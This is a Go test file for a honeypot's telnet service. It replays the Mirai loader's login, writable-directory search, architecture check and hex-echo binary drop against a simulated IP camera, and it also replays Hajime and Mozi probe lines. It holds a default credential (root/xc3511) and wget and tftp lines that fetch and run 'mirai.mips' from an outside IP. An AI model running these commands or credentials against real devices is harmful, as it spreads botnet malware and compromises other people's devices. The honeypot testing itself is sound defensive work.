package telnet_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"strings"
	"testing"

	"github.com/decnet/decnet/providers/decky"
	"github.com/decnet/decnet/providers/decky/services/telnet"
	"github.com/decnet/decnet/providers/decky/servicetest"
	"github.com/decnet/decnet/schema/event"
)

// loader speaks the protocol of Mirai's loader, as the source that its author
// published has it: what it sends, and what it waits for.
type loader struct {
	t    *testing.T
	c    net.Conn
	seen []byte
}

const (
	tokenQuery    = "/bin/busybox ECCHI"
	tokenResponse = "ECCHI: applet not found"
	execQuery     = "/bin/busybox IHCCE"
	execResponse  = "IHCCE: applet not found"
)

// more reads on until text stands in what was not consumed, and consumes up to
// its end.
func (l *loader) more(text string) string {
	l.t.Helper()
	var b [4096]byte
	for {
		if i := bytes.Index(l.seen, []byte(text)); i >= 0 {
			heard := string(l.seen[:i])
			l.seen = l.seen[i+len(text):]
			return heard
		}
		n, err := l.c.Read(b[:])
		l.seen = append(l.seen, b[:n]...)
		if err != nil {
			l.t.Fatalf("waiting for %q: %v; unread: %.2000q", text, err, l.seen)
		}
	}
}

// prompt is any of the characters that the loader takes for the end of one.
func (l *loader) prompt() {
	l.t.Helper()
	var b [4096]byte
	for !bytes.ContainsAny(l.seen, ":>$#%") {
		n, err := l.c.Read(b[:])
		l.seen = append(l.seen, b[:n]...)
		if err != nil {
			l.t.Fatalf("waiting for a prompt: %v after %q", err, l.seen)
		}
	}
	l.seen = nil
}

func (l *loader) send(format string, args ...any) {
	l.t.Helper()
	send(l.t, l.c, fmt.Sprintf(format, args...))
}

// ask sends a line with the token behind it and returns what came before the
// token's answer.
func (l *loader) ask(format string, args ...any) string {
	l.t.Helper()
	l.send(format+"; "+tokenQuery+"\r\n", args...)
	return l.more(tokenResponse)
}

// negotiate answers every command at the start of what was heard as the loader
// does: a window for NAWS, else a refusal.
func (l *loader) negotiate() {
	l.t.Helper()
	heard := expect(l.t, l.c, "login: ")
	for len(heard) >= 3 && heard[0] == 255 {
		verb, option := heard[1], heard[2]
		heard = heard[3:]
		switch {
		case verb == 253 && option == 31:
			send(l.t, l.c, "\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
		case verb == 253:
			send(l.t, l.c, string([]byte{255, 252, option}))
		case verb == 251:
			send(l.t, l.c, string([]byte{255, 253, option}))
		}
	}
	l.seen = []byte(heard)
}

// login is as far as the shell, whose existence the token proves.
func (l *loader) login(user, password string) {
	l.t.Helper()
	l.negotiate()
	l.prompt()
	l.send("%s", user)
	l.send("\r\n")
	l.more("assword: ")
	l.send("%s", password)
	l.send("\r\n")
	l.prompt()
	l.send("enable\r\n")
	l.send("shell\r\n")
	l.send("sh\r\n")
	l.prompt()
	l.send(tokenQuery + "\r\n")
	l.more(tokenResponse)
}

// writable finds a directory by the mounts, proving it with a file.
func (l *loader) writable() string {
	l.t.Helper()
	mounts := l.ask("/bin/busybox cat /proc/mounts")
	for line := range strings.Lines(mounts) {
		f := strings.Fields(line)
		if len(f) < 4 || !strings.Contains(f[3], "rw") {
			continue
		}
		path := strings.TrimSuffix(f[1], "/")
		l.send("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon\r\n", path, path, path, path)
	}
	l.send("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon\r\n")
	l.send(tokenQuery + "\r\n")
	heard := l.more(tokenResponse)
	_, after, ok := strings.Cut(heard, "kami")
	if !ok {
		l.t.Fatalf("no directory is writable: mounts %q, answers %q", mounts, heard)
	}
	dir, _, _ := strings.Cut(after, "\r")
	dir, _, _ = strings.Cut(dir, "\n")
	if len(dir) >= 31 || strings.Contains(dir, "kami") {
		l.t.Fatalf("directory %q", dir)
	}
	return dir
}

// machine is the architecture by the ELF header of /bin/echo.
func (l *loader) machine() uint16 {
	l.t.Helper()
	l.send("/bin/busybox cat /bin/echo\r\n")
	l.send(tokenQuery + "\r\n")
	heard := l.more(tokenResponse)
	i := strings.Index(heard, "\x7fELF")
	if i < 0 || len(heard) < i+20 {
		l.t.Fatalf("no ELF header in %.200q", heard)
	}
	if heard[i+5] == 2 {
		return binary.BigEndian.Uint16([]byte(heard[i+18:]))
	}
	return binary.LittleEndian.Uint16([]byte(heard[i+18:]))
}

func camera(t *testing.T, arguments string) *servicetest.Server {
	t.Helper()
	host := alpine()
	host.OS, host.Hostname = "embedded", "ipcam"
	return servicetest.Start(t, telnet.New(), servicetest.Options{Host: host, Arguments: arguments})
}

func sample() []byte {
	data := append([]byte("\x7fELF\x01\x01\x01"), bytes.Repeat([]byte{0, 1, 0xfe, '\'', '\\', '%', 0xff, '\r', '\n'}, 40)...)
	return data
}

// drop is the loader's way with echo: hex, 128 bytes a line.
func (l *loader) drop(data []byte) {
	l.t.Helper()
	l.ask("/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp")
	for i := 0; i < len(data); i += 128 {
		var hexed strings.Builder
		for _, c := range data[i:min(i+128, len(data))] {
			fmt.Fprintf(&hexed, "\\x%02x", c)
		}
		redirect := ">>"
		if i == 0 {
			redirect = ">"
		}
		l.ask("echo -ne '%s' %s upnp", hexed.String(), redirect)
	}
}

func TestMiraiLoaderDropsByEcho(t *testing.T) {
	s := camera(t, `{"users":{"root":"xc3511"}}`)
	l := &loader{t: t, c: s.Dial()}
	l.login("root", "xc3511")
	if ps := l.ask("/bin/busybox ps"); !strings.Contains(ps, "PID") {
		t.Errorf("ps shows nothing: %q", ps)
	}
	dir := l.writable()
	l.send("cd %s/\r\n", dir)
	l.ask("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
	if m := l.machine(); m != 8 {
		t.Errorf("/bin/echo is for machine %d, the appliance's is MIPS", m)
	}
	if methods := l.ask("/bin/busybox wget; /bin/busybox tftp"); strings.Contains(methods, "wget: applet not found") {
		t.Errorf("no wget: %q", methods)
	}
	l.drop(sample())
	l.send("./upnp; ./dvrHelper telnet.mips; " + execQuery + "\r\n")
	l.more(execResponse)
	l.send("exit\r\n")
	sum := sha256.Sum256(sample())
	captured(t, s, hex.EncodeToString(sum[:]))
}

// captured waits for the transfer with a digest and reads its artifact.
func captured(t *testing.T, s *servicetest.Server, digest string) {
	t.Helper()
	e := s.WaitFor(t, func(e *event.Event) bool {
		b, ok := e.Body.(*event.Transfer)
		return ok && b.SHA256 == digest
	})
	if b := e.Body.(*event.Transfer); !b.Stored || b.Direction != "upload" {
		t.Errorf("transfer = %+v", b)
	}
	for _, store := range []decky.Store{s.Store()} {
		data, err := store.Load("artifact-" + digest)
		sum := sha256.Sum256(data)
		if err != nil || hex.EncodeToString(sum[:]) != digest {
			t.Errorf("the artifact is not kept: %d bytes, %v", len(data), err)
		}
	}
}

func TestMiraiLoaderFetches(t *testing.T) {
	for name, line := range map[string]string{
		"wget": "/bin/busybox wget http://45.95.168.10:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
		"tftp": "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 45.95.168.10; /bin/busybox chmod 777 dvrHelper",
	} {
		t.Run(name, func(t *testing.T) {
			s := camera(t, `{"users":{"root":"xc3511"}}`)
			l := &loader{t: t, c: s.Dial()}
			l.login("root", "xc3511")
			l.send("cd /tmp\r\n")
			l.ask("%s", line)
			l.send("./dvrHelper telnet.mips; " + execQuery + "\r\n")
			l.more(execResponse)
			e := s.WaitFor(t, func(e *event.Event) bool {
				b, ok := e.Body.(*event.Transfer)
				return ok && strings.Contains(string(b.Name), "45.95.168.10") && strings.Contains(string(b.Name), "mirai.mips")
			})
			if b := e.Body.(*event.Transfer); b.Direction != "download" || b.Size == 0 || b.SHA256 == "" {
				t.Errorf("transfer = %+v", b)
			}
			l.send("exit\r\n")
			for _, e := range s.Events() {
				if b, ok := e.Body.(*event.Transfer); ok && b.Direction == "upload" {
					t.Errorf("what we made up is kept as a sample: %+v", b)
				}
			}
		})
	}
}

func TestHajimeAndMoziProbe(t *testing.T) {
	s := camera(t, `{"users":{"root":"xc3511"}}`)
	l := &loader{t: t, c: s.Dial()}
	l.login("root", "xc3511")
	for _, probe := range []struct{ line, want string }{
		{"cat /proc/mounts; /bin/busybox PEGOK", "PEGOK: applet not found"},
		{"cd /tmp || cd /run || cd /; >.x && cd /tmp; pwd", "\r\n/tmp\r\n"},
		{"cp /bin/echo .s; cat /bin/echo >.s; (dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s); /bin/busybox PEGOK", "\x7fELF"},
		{"while read i; do echo $i; done < /proc/self/exe | head -c 4; /bin/busybox PEGOK", "\x7fELF"},
		{"/bin/busybox wget; /bin/busybox 81c46036wget; /bin/busybox echo -ne '\\x30\\x38'; /bin/busybox PEGOK", "08PEGOK: applet not found"},
		{"rm .s .x; exit", ""},
	} {
		l.send("%s\r\n", probe.line)
		l.more(probe.want)
	}
}
